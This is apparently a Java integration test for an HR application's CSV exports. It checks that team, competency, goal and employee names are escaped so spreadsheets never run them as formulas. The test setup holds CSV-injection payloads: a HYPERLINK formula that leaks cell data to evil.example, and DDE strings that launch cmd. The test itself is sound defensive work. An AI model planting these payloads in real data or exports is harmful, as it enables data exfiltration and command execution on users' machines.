package nl.goedgesprek.insights;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.context.annotation.Import;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.RequestPostProcessor;

import nl.goedgesprek.support.ConversationSteps;
import nl.goedgesprek.support.DemoUsers;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * An attacker names a team, a competency, a koers goal and a person so that Excel would run them.
 * Every CSV download of both dashboards writes them as text that shows but never runs.
 * The dashboards read in parallel threads, so the names are committed and put back afterwards.
 */
@SpringBootTest
@AutoConfigureMockMvc
@ActiveProfiles("test")
@Import({ DemoUsers.class, ConversationSteps.class })
class CsvFormulaIntegrationTests {

	private static final String TEAM = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Klantcontact\")";

	private static final String COMPETENCY = "+cmd|' /C calc'!A0";

	private static final String KOERS_GOAL = "-2+3+cmd|' /C calc'!A0";

	private static final String PERSON = "@SUM(1+1)*cmd|' /C calc'!A0";

	private static final List<String> TABLES = List.of("coverage", "themes", "voice", "follow-through", "pulse",
			"statements", "development");

	@Autowired
	MockMvc mvc;

	@Autowired
	DemoUsers demo;

	@Autowired
	JdbcTemplate jdbc;

	private long competency;

	private long koersGoal;

	private String competencyName;

	private String koersGoalTitle;

	@BeforeEach
	void nameThingsLikeFormulas() {
		competency = jdbc.queryForObject("select min(id) from competency where active = true", Long.class);
		koersGoal = jdbc.queryForObject("select min(id) from organisation_goal where active = true", Long.class);
		competencyName = jdbc.queryForObject("select name from competency where id = ?", String.class, competency);
		koersGoalTitle = jdbc.queryForObject("select title from organisation_goal where id = ?", String.class, koersGoal);
		jdbc.update("update team set name = ? where name = 'Klantcontact'", TEAM);
		jdbc.update("update competency set name = ? where id = ?", COMPETENCY, competency);
		jdbc.update("update organisation_goal set title = ? where id = ?", KOERS_GOAL, koersGoal);
		jdbc.update("update employee set name = ? where name = 'Anouk Mulder'", PERSON);
	}

	@AfterEach
	void putNamesBack() {
		jdbc.update("update team set name = 'Klantcontact' where name = ?", TEAM);
		jdbc.update("update competency set name = ? where id = ?", competencyName, competency);
		jdbc.update("update organisation_goal set title = ? where id = ?", koersGoalTitle, koersGoal);
		jdbc.update("update employee set name = 'Anouk Mulder' where name = ?", PERSON);
	}

	@Test
	void theOrganisationsDownloadsShowTheNamesButNeverRunThem() throws Exception {
		List<List<String>> cells = new java.util.ArrayList<>();
		for (String table : TABLES) {
			cells.addAll(download("/insights/export/" + table + ".csv", demo.as("fatima.elamrani")));
		}
		assertThat(cells).as("every cell of every download").allSatisfy(CsvFormulaIntegrationTests::neverAFormula);
		assertThat(cells).flatExtracting(row -> row)
			.contains("'" + TEAM, "'" + COMPETENCY, "'" + KOERS_GOAL);
	}

	@Test
	void theManagersDownloadsShowTheNamesButNeverRunThem() throws Exception {
		List<List<String>> cells = new java.util.ArrayList<>();
		for (String table : TABLES) {
			cells.addAll(download("/team/insights/export/" + table + ".csv", demo.as("pieter.jansen")));
		}
		List<List<String>> followUp = download("/team/insights/export/follow-up.csv", demo.as("pieter.jansen"));
		cells.addAll(followUp);
		assertThat(cells).allSatisfy(CsvFormulaIntegrationTests::neverAFormula);
		// Anouk's last check-in was in Pieter's round four months ago: behind on the rhythm
		assertThat(followUp).anySatisfy(row -> assertThat(row).startsWith("'" + PERSON,
				java.time.LocalDate.now().minusMonths(4).withDayOfMonth(11).toString(), "ja"));
	}

	@Test
	void countsStayNumbersAPersonCanAddUp() throws Exception {
		String csv = mvc.perform(get("/team/insights/export/follow-up.csv").with(demo.as("pieter.jansen")))
			.andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
		assertThat(csv.lines().skip(1)).allMatch(line -> line.matches("\"[^\"]*\";\"[^\"]*\";\"[^\"]*\";\\d+;\\d+"));
	}

	private List<List<String>> download(String url, RequestPostProcessor who) throws Exception {
		String csv = mvc.perform(get(url).with(who))
			.andExpect(status().isOk())
			.andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
		return parse(csv.substring(1));
	}

	private static void neverAFormula(List<String> row) {
		for (String cell : row) {
			assertThat(cell).as("a cell Excel would run").doesNotStartWith("=").doesNotStartWith("+")
				.doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
		}
	}

	private static List<List<String>> parse(String csv) throws IOException {
		try (CSVParser parser = CSVParser.parse(csv, CSVFormat.DEFAULT.builder().setDelimiter(';').get())) {
			return parser.getRecords().stream().map(CSVRecord::toList).toList();
		}
	}

}
